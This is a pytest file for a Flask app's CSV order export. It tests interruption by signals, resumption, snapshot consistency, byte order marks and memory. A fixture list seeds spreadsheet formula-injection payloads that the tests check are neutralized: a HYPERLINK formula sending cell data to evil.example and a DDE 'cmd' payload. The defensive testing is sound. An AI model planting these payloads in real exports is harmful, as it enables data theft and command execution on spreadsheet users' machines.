"""`flask --app app export` as a real process: interrupted by a signal, resumed, consistent.

- Interrupted mid-export with SIGINT, then again with SIGTERM: each run stops at a batch
  boundary, exits 130 and prints the cursor to resume from; the resumed runs append to the same
  file, and the file ends up byte for byte equal to an uninterrupted export.
- `--consistent` reads one snapshot: rows another connection inserts or deletes while the
  export runs do not change it. The export is held mid-way honestly, by backpressure: its
  standard output is a pipe the test stops reading, so the process blocks writing after the
  first batches (the pipe holds 64 KiB) while the test writes to the table.
- GET /orders/export.csv serves the same bytes as the command; a UTF-8 byte order mark only
  when asked (the page's link asks); the export's peak memory does not grow with the rows.

The exports are forked children of a process that imported the app once (tests/forked.py), real
processes all the same (their own pid, signals, pipes and exit status); the first SIGINT goes to
an export started from a fresh interpreter.
"""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import itertools
import os
import re
import signal
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import delete, insert, select, text
from sqlalchemy.orm import Session
from werkzeug.datastructures import MultiDict

from orders.data.db import make_engine, migrate
from orders.data.models import Order
from orders.data.seed import seed_orders
from orders.exports.stream import EXPORT_BATCH_SIZE, FIRST_BATCH_SIZE, _BatchReader, export_chunks
from orders.finding.request import list_request
from orders.finding.sorts import LIBRARY_SORTS

from . import forked
from .databases import ENGINES, throwaway_database
from .fixtures import SECRET, make_app

ROOT = Path(__file__).resolve().parent.parent
ROWS = 10_000
assert FIRST_BATCH_SIZE < ROWS < EXPORT_BATCH_SIZE  # the export's first batch, then one more
NOW = dt.datetime(2026, 3, 11, 10, 39, tzinfo=dt.UTC)
RESUME = re.compile(r"interrupted after ([\d,]+) rows; resume with: --after (\S+)")


@pytest.fixture(scope="module", params=ENGINES)
def export_db(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A database with 10,000 orders, three a minute (ties), shared by the read-only tests."""
    with throwaway_database(request.param, tmp_path_factory.mktemp("export"), "export") as url:
        seeded(url, ROWS)
        yield url


# Names a spreadsheet would run as formulas, spread through the table: every export below writes
# them neutralized (a leading '), so the byte-for-byte comparisons cover neutralized cells too.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    '+cmd|" /C calc"!A0',
    "@SUM(1+1)",
    "-1+2",
    "\tx",
]


def seeded(url: str, rows: int) -> None:
    engine = make_engine(url)
    migrate(engine)
    with Session(engine) as session:
        seed_orders(session, rows, now=NOW)
        ids = list(session.scalars(select(Order.id).order_by(Order.id)))
        for i, order_id in enumerate(ids[:: max(1, len(ids) // 50)]):
            session.get(Order, order_id).customer = FORMULAS[i % len(FORMULAS)]
        session.commit()
    engine.dispose()


def export(url: str, *args: str, cold: bool = False, **popen: Any) -> subprocess.Popen | forked.Popen:
    """`flask --app app export ARGS` started: a forked child (tests/forked.py), a real process
    with its own pid, signals and pipes, or with cold=True a fresh interpreter."""
    env = {**os.environ, "DATABASE_URL": url, "SECRET_KEY": SECRET}
    env.pop("APP_ENV", None)
    command = [sys.executable, "-m", "flask", "--app", "app", "export", *args]
    if cold:
        return subprocess.Popen(command, cwd=ROOT, env=env, stderr=subprocess.PIPE, **popen)
    return forked.Popen(command, cwd=ROOT, env=env, stderr=subprocess.PIPE, **popen)


def finish(process: subprocess.Popen | forked.Popen, timeout: float = 120) -> tuple[bytes, str]:
    """Wait for the process; (its standard output as bytes, its standard error as text)."""
    out, err = process.communicate(timeout=timeout)
    return out or b"", err.decode()


def export_done(url: str, *args: str) -> tuple[bytes, str]:
    """Run an export to the end; (standard output, standard error)."""
    process = export(url, *args, stdout=subprocess.PIPE)
    out, err = finish(process)
    assert process.returncode == 0, err
    return out, err


def interrupt_when_growing(
    url: str, output: Path, sig: signal.Signals, *args: str, cold: bool = False
) -> tuple[int, str]:
    """Start an export to `output`, send `sig` once it has written a few batches; (rows, cursor)."""
    size_before = output.stat().st_size if output.exists() else 0
    process = export(
        url, "--output", str(output), "--batch-size", "50", *args, cold=cold, stdout=subprocess.DEVNULL
    )
    deadline = time.monotonic() + 60
    while not output.exists() or output.stat().st_size < size_before + 10_000:
        assert process.poll() is None, "the export ended before it could be interrupted"
        assert time.monotonic() < deadline, "the export never started writing"
        time.sleep(0.002)
    process.send_signal(sig)
    _, err = finish(process)
    assert process.returncode == 130, err
    match = RESUME.search(err)
    assert match, err
    return int(match.group(1).replace(",", "")), match.group(2)


def ids_of(csv_bytes: bytes) -> list[int]:
    rows = list(csv.reader(io.StringIO(csv_bytes.decode(), newline="")))
    assert rows[0] == ["id", "customer", "amount", "status", "created_at"]
    assert not any(row[1].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
    return [int(row[0]) for row in rows[1:]]


def test_interrupted_twice_and_resumed_equals_an_uninterrupted_export(export_db: str, tmp_path: Path) -> None:
    full, err = export_done(export_db, "--batch-size", "50")
    assert f"exported {ROWS:,} rows" in err
    assert len(ids_of(full)) == ROWS
    customers = [row[1] for row in csv.reader(io.StringIO(full.decode(), newline=""))]
    assert customers.count("'" + FORMULAS[0]) >= 10  # neutralized, not dropped

    part = tmp_path / "orders.csv"
    first, cursor = interrupt_when_growing(export_db, part, signal.SIGINT, cold=True)  # a fresh interpreter
    wrong = export(export_db, "--sort", "amount", "--after", cursor, stdout=subprocess.PIPE)
    _, err = finish(wrong)
    assert wrong.returncode == 2 and "--after" in err and "sort" in err, err  # a usage error
    second, cursor = interrupt_when_growing(export_db, part, signal.SIGTERM, "--after", cursor)
    assert first > 0 and second > 0 and first + second < ROWS, (first, second)
    process = export(export_db, "--output", str(part), "--after", cursor, stdout=subprocess.DEVNULL)
    _, err = finish(process)
    assert process.returncode == 0, err
    assert f"exported {ROWS - first - second:,} rows" in err
    assert part.read_bytes() == full


@pytest.mark.parametrize(("sort", "status"), [("newest", None), ("customer", "paid")])
def test_web_export_serves_the_same_bytes_as_the_command(
    export_db: str, sort: str, status: str | None
) -> None:
    args = ["--sort", sort, *(["--status", status] if status else [])]
    cli_bytes, _ = export_done(export_db, *args)
    app = make_app(export_db)
    response = app.test_client().get(
        "/orders/export.csv", query_string={"sort": sort, "status": status or ""}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.get_data() == cli_bytes
    app.extensions["engine"].dispose()


def test_a_head_reads_one_small_batch_and_a_get_the_rest(
    export_db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The web export reads its first batch before the response starts (a bad start or a dead
    database is then an error status). A HEAD never reads the body: it costs that one batch of
    FIRST_BATCH_SIZE rows, with nothing read ahead (it cost two full batches of 20,000 on a server
    engine). A GET then reads the rest in full batches, resumed behind the first."""
    lines: list[int] = []
    read = _BatchReader.read

    def counted(self: _BatchReader, session: Session, statement: Any, params: dict[str, Any]) -> bytes:
        data = read(self, session, statement, params)
        lines.append(data.count(b"\n"))  # the read-ahead's threads append too
        return data

    monkeypatch.setattr(_BatchReader, "read", counted)
    app = make_app(export_db)
    try:
        client = app.test_client()
        head = client.head("/orders/export.csv")
        head.close()
        assert head.status_code == 200 and head.mimetype == "text/csv"
        assert lines == [FIRST_BATCH_SIZE]
        lines.clear()
        whole = client.get("/orders/export.csv").get_data()
        assert lines == [FIRST_BATCH_SIZE, ROWS - FIRST_BATCH_SIZE]  # ROWS < EXPORT_BATCH_SIZE
        assert whole.count(b"\n") == ROWS + 1  # and the header
    finally:
        app.extensions["engine"].dispose()


# Transactions open on the server now, but the asking connection's own.
OPEN_TRANSACTIONS = {
    "postgresql": "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
    "AND xact_start IS NOT NULL AND pid <> pg_backend_pid()",
    # innodb_trx lists the whole server's transactions (other test workers' databases too):
    # only those of connections to this test's database count.
    "mysql": "SELECT count(*) FROM information_schema.innodb_trx AS t "
    "JOIN information_schema.PROCESSLIST AS p ON p.ID = t.trx_mysql_thread_id "
    "WHERE t.trx_mysql_thread_id <> CONNECTION_ID() AND p.DB = DATABASE()",
}


def test_no_transaction_waits_while_the_caller_holds_the_first_chunk(export_db: str) -> None:
    """A slow client, or a HEAD, holds the first chunk as long as it likes: the export's own
    transactions have ended by then (its read's, and the probe's of the next range, under way
    when the chunk came back). The read's had stayed open until the caller asked for more."""
    app = make_app(export_db)
    engine = app.extensions["engine"]
    try:
        with app.app_context(), Session(engine) as session:
            chunks = export_chunks(session, list_request(MultiDict()), first_batch_size=FIRST_BATCH_SIZE)
            first = next(chunks)
            assert first.rows == FIRST_BATCH_SIZE
            if engine.dialect.name == "sqlite":  # read in this thread, on the caller's session
                assert not session.in_transaction()
            else:
                deadline = time.monotonic() + 5
                with engine.connect() as watcher:
                    while watcher.scalar(text(OPEN_TRANSACTIONS[engine.dialect.name])):
                        watcher.rollback()
                        assert time.monotonic() < deadline, "a transaction stays open behind the chunk"
                        time.sleep(0.25)  # InnoDB refreshes innodb_trx only if unread for 0.1 s
            chunks.close()
    finally:
        engine.dispose()


# --- One snapshot, or not -----------------------------------------------------------------------

SNAPSHOT_ROWS = 5000  # about 300 KB of CSV: far more than a pipe holds


@pytest.fixture(params=ENGINES)
def fresh_db(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, str]]:
    with throwaway_database(request.param, tmp_path, "snapshot") as url:
        seeded(url, SNAPSHOT_ROWS)
        yield request.param, url


def writes_during_export(url: str, *args: str) -> tuple[list[int], list[int], list[int], list[int]]:
    """Export (newest first) while another connection deletes the 30 oldest orders and inserts
    30 older still: both at the tail, which the export reads last.
    Returns (ids before the writes, ids exported, ids deleted, ids inserted)."""
    engine = make_engine(url)
    newest = LIBRARY_SORTS["newest"].order_by()
    with Session(engine) as session:
        before = list(session.scalars(select(Order.id).order_by(*newest)))
    process = export(url, "--batch-size", "50", *args, stdout=subprocess.PIPE)
    assert process.stdout is not None
    # The export has read its first batches once this much arrived; then it blocks. (os.read:
    # communicate() reads the file descriptor, so nothing may sit in a Python-side buffer.)
    head = b""
    while len(head) < 4096:
        chunk = os.read(process.stdout.fileno(), 4096)
        assert chunk, "the export ended early"
        head += chunk
    oldest = NOW - dt.timedelta(days=365)
    with Session(engine) as session:
        deleted = before[-30:]
        session.execute(delete(Order).where(Order.id.in_(deleted)))
        rows = [
            {
                "customer": "Late",
                "amount": 1,
                "status": "paid",
                "created_at": oldest - dt.timedelta(minutes=i),
            }
            for i in range(30)
        ]
        session.execute(insert(Order), rows)
        session.commit()
        inserted = list(session.scalars(select(Order.id).where(Order.customer == "Late")))
    engine.dispose()
    rest, err = finish(process)
    assert process.returncode == 0, err
    return before, ids_of(head + rest), deleted, inserted


def test_consistent_export_ignores_writes_made_while_it_runs(fresh_db: tuple[str, str]) -> None:
    _, url = fresh_db
    before, exported, _, _ = writes_during_export(url, "--consistent")
    assert exported == before


def test_plain_export_may_see_writes_made_while_it_runs(fresh_db: tuple[str, str]) -> None:
    """Documents what an export without --consistent does: each batch is read in a short
    transaction of its own (so a slow download holds nothing between batches), on every engine,
    MariaDB included. Rows deleted ahead of the export are gone, rows inserted ahead of it
    appear, every row that existed throughout appears exactly once."""
    _, url = fresh_db
    before, exported, deleted, inserted = writes_during_export(url)
    assert len(exported) == len(set(exported))
    assert exported == [i for i in before if i not in deleted] + sorted(inserted)  # each older than the last


# --- The byte order mark, and memory --------------------------------------------------------------

BOM = b"\xef\xbb\xbf"


def test_byte_order_mark_only_when_asked(export_db: str, tmp_path: Path) -> None:
    """The page's "Export CSV" link asks for a UTF-8 byte order mark (Excel needs it to read the
    file as UTF-8); the bare URL and the command write none, unless asked (?bom=1, --bom)."""
    app = make_app(export_db)
    client = app.test_client()
    plain = client.get("/orders/export.csv").get_data()
    marked = client.get("/orders/export.csv", query_string={"bom": "1"}).get_data()
    assert plain.startswith(b"id,") and marked == BOM + plain
    assert client.get("/orders/export.csv", query_string={"bom": "0"}).get_data() == plain
    for bad in ("2", "yes", ""):
        response = client.get("/orders/export.csv", query_string={"bom": bad})
        assert response.status_code == 400, bad
    page = client.get("/orders").get_data(as_text=True)
    link = re.search(r'href="([^"]*export\.csv[^"]*)"', page)
    assert link and "bom=1" in link.group(1), link
    assert client.get(link.group(1).replace("&amp;", "&")).get_data().startswith(BOM)
    app.extensions["engine"].dispose()
    cli_plain, _ = export_done(export_db)
    cli_marked, _ = export_done(export_db, "--bom")
    assert cli_plain == plain and cli_marked == marked
    # A resumed export writes no header, so no mark either: the pieces still concatenate.
    first = cli_marked.split(b"\n", 11)
    assert not first[-1].startswith(BOM)


def test_memory_stays_flat_in_the_row_count(export_db: str) -> None:
    """The export holds a bounded number of batches at a time: its peak allocation (tracemalloc)
    over the whole table (20 batches) exceeds its peak over the first 4 by less than 4 batches'
    bytes. An export that gathered its batches would add 16.

    The margin is the read-ahead's own: on a server engine up to three batches are in flight at
    once (the one yielded, two read meanwhile, exports/stream.py _read_ahead), and whether the
    first 4 batches already filled that pipeline depends on the threads' timing; a fresh
    machine's CI run once saw the whole export's peak one batch above the first 4's."""
    app = make_app(export_db)
    batch = 500
    with app.app_context():
        listing = list_request(MultiDict())

        def peak(batches: int | None) -> tuple[int, int]:
            with Session(app.extensions["engine"]) as session:
                chunks = export_chunks(session, listing, batch_size=batch)
                gc.collect()
                tracemalloc.start()
                try:
                    size = sum(len(c.data) for c in itertools.islice(chunks, batches))
                    return tracemalloc.get_traced_memory()[1], size
                finally:
                    tracemalloc.stop()

        peak(None)  # compiled statements and caches (the last, short range has its own), once
        head_peak, head_bytes = peak(4)
        whole_peak, whole_bytes = peak(None)
    app.extensions["engine"].dispose()
    one_batch = head_bytes // 4
    assert whole_bytes > 4 * head_bytes  # the whole export is many more batches
    print(
        f"\npeak over 4 batches {head_peak:,} B, over {ROWS // batch}: {whole_peak:,} B; one {one_batch:,} B"
    )
    assert whole_peak < head_peak + 4 * one_batch, (head_peak, whole_peak, one_batch)


class _CountingSession:
    """What _one_ahead asks of the probes' session: a rollback after each probe."""

    def __init__(self) -> None:
        self.rollbacks = 0

    def rollback(self) -> None:
        self.rollbacks += 1


def test_the_next_range_is_probed_on_another_thread_and_errors_come_in_order() -> None:
    import threading

    from orders.exports.stream import _one_ahead

    threads: list[str] = []

    def ranges() -> Iterator[str]:
        threads.append(threading.current_thread().name)
        yield "first"
        threads.append(threading.current_thread().name)
        yield "second"
        raise RuntimeError("the probe lost its connection")

    session = _CountingSession()
    ahead = _one_ahead(ranges(), session)  # type: ignore[arg-type]  # ranges stand in for Range
    assert next(ahead) == "first"
    assert next(ahead) == "second"  # both ranges before the failing probe, in order
    with pytest.raises(RuntimeError, match="lost its connection"):
        next(ahead)
    assert session.rollbacks == 3  # every probe its own short transaction, the failed one too
    assert threading.current_thread().name not in threads


def test_a_download_stopped_early_leaves_no_probe_running() -> None:
    import threading

    from orders.exports.stream import _one_ahead

    started = threading.Event()

    def ranges() -> Iterator[int]:
        for n in itertools.count():
            started.set()
            time.sleep(0.05)
            yield n

    ahead = _one_ahead(ranges(), _CountingSession())  # type: ignore[arg-type]  # as above
    assert next(ahead) == 0 and started.wait(5)
    ahead.close()  # the client went away: waits for the probe under way, then returns
    assert not [t for t in threading.enumerate() if t.name.startswith("export-probe")]


class _ReadSession(_CountingSession):
    """A reader's session: which thread read on it, and a rollback after each read."""

    def __init__(self, name: str) -> None:
        super().__init__()
        self.name = name


class _Part:
    def __init__(self, n: int) -> None:
        self.statement, self.params, self.rows, self.cursor = n, {}, 1, f"c{n}"


def test_two_batches_are_read_at_once_and_come_in_order() -> None:
    """_read_ahead reads range k+1 on a second session while range k is read: each read waits
    at a barrier for the other, which only two reads under way at once can pass."""
    import threading

    from orders.exports.stream import _read_ahead

    both = threading.Barrier(2, timeout=5)
    sessions = [_ReadSession("a"), _ReadSession("b")]
    used: list[tuple[int, str]] = []

    class Reader:
        def read(self, session: _ReadSession, statement: int, params: dict[str, Any]) -> bytes:
            used.append((statement, session.name))
            if statement < 4:  # the fifth read has no partner: the ranges end
                both.wait()
            return f"{statement}\n".encode()

    chunks = list(_read_ahead(iter([_Part(n) for n in range(5)]), Reader(), sessions))
    assert [c.data for c in chunks] == [f"{n}\n".encode() for n in range(5)]
    assert [c.cursor for c in chunks] == [f"c{n}" for n in range(5)]
    assert sorted(used) == [(n, "ab"[n % 2]) for n in range(5)]  # range k on session k % 2
    assert [s.rollbacks for s in sessions] == [3, 2]  # every read its own short transaction


def test_a_failed_read_comes_after_every_batch_before_it() -> None:
    import threading

    from orders.exports.stream import _read_ahead

    class Reader:
        def read(self, session: _ReadSession, statement: int, params: dict[str, Any]) -> bytes:
            if statement == 2:
                raise RuntimeError("the read lost its connection")
            return f"{statement}\n".encode()

    sessions = [_ReadSession("a"), _ReadSession("b")]
    ahead = _read_ahead(iter([_Part(n) for n in range(6)]), Reader(), sessions)
    assert [next(ahead).data, next(ahead).data] == [b"0\n", b"1\n"]
    with pytest.raises(RuntimeError, match="lost its connection"):
        next(ahead)
    assert not [t for t in threading.enumerate() if t.name.startswith("export-read")]


def test_a_download_stopped_early_leaves_no_read_running() -> None:
    import threading

    from orders.exports.stream import _read_ahead

    reading = threading.Event()

    class Reader:
        def read(self, session: _ReadSession, statement: int, params: dict[str, Any]) -> bytes:
            reading.set()
            time.sleep(0.05)
            return b"x\n"

    sessions = [_ReadSession("a"), _ReadSession("b")]
    parts = (_Part(n) for n in itertools.count())
    ahead = _read_ahead(parts, Reader(), sessions)
    assert next(ahead).data == b"x\n" and reading.wait(5)
    ahead.close()  # the client went away: waits for the reads under way, starts no other
    assert not [t for t in threading.enumerate() if t.name.startswith("export-read")]
    assert sum(s.rollbacks for s in sessions) <= 3  # the one yielded, at most two under way


def test_a_wrong_option_is_a_usage_error_and_the_file_is_left_alone(export_db: str, tmp_path: Path) -> None:
    """An empty --after (an unset "$CURSOR") truncated the file and wrote the whole export
    without its header; a batch size of 0 blamed --after, a huge one was the database's error."""
    part = tmp_path / "orders.csv"
    part.write_bytes(b"what an interrupted export wrote\n")
    for args, named in (
        (("--after", ""), "--after"),
        (("--batch-size", "0"), "--batch-size"),
        (("--batch-size", "-5"), "--batch-size"),
        (("--batch-size", "99999999999999999999"), "--batch-size"),
    ):
        process = export(export_db, "--output", str(part), *args, stdout=subprocess.PIPE)
        _, err = finish(process)
        assert process.returncode == 2 and named in err, (args, err)
        assert part.read_bytes() == b"what an interrupted export wrote\n", args
